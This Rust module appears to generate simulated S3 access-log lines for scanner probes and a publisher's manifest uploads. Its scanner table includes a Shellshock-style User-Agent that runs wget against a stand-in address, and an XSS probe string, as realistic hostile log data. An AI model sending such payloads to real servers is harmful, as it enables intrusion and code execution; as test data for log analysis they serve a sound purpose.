//! Requests of others than devices: scanners that try every bucket, and the publisher.

use rand::Rng;
use rand_xoshiro::Xoshiro256PlusPlus;

use crate::log::{Client, Line};

/// What scanners ask for, with which User-Agent. Shortened from what any public bucket's log has.
const SCANS: [(&str, &str); 10] = [
    (
        ".env",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    ),
    ("wp-login.php", "Mozilla/5.0 zgrab/0.x"),
    (".git/config", "python-requests/2.32.3"),
    ("backup.zip", "Go-http-client/1.1"),
    (
        "robots.txt",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ),
    ("favicon.ico", "-"),
    (
        "cgi-bin/luci",
        "() { :; }; /bin/bash -c \"wget http://192.0.2.66/x\"",
    ),
    ("lamp-c3/stable.json", "curl/8.5.0"),
    ("lamp-c3/stable.json", "<script>alert(1)</script>"),
    (
        "index.php%3Fs=/Index",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64), like Gecko",
    ),
];

/// The publisher's tool.
const PUBLISHER: &str = "aws-sdk-rust/1.3.9 os/linux lang/rust/1.95.0 app/s3ota";

/// Writes what a stranger asks for at this time.
pub(crate) fn scan<R>(
    time: u64,
    rng: &mut Xoshiro256PlusPlus,
    write: impl FnOnce(&Line<'_>) -> R,
) -> R {
    let (key, agent) = SCANS[rng.gen_range(0..SCANS.len())];
    let exists = key.ends_with("stable.json");
    let turned = rng.gen_range(5..30);
    write(&Line {
        time,
        client: Client::Stranger {
            number: rng.gen_range(0..1 << 17),
            agent,
        },
        method: "GET",
        key,
        status: if exists { 200 } else { 403 },
        error: (!exists).then_some("AccessDenied"),
        sent: if exists { 1200 } else { 243 },
        size: exists.then_some(1200),
        took: turned,
        turned,
    })
}

/// Writes the publisher's upload of a manifest.
pub(crate) fn publish<R>(time: u64, key: &str, size: u32, write: impl FnOnce(&Line<'_>) -> R) -> R {
    write(&Line {
        time,
        client: Client::Publisher { agent: PUBLISHER },
        method: "PUT",
        key,
        status: 200,
        error: None,
        sent: 0,
        size: Some(size),
        took: 45,
        turned: 40,
    })
}
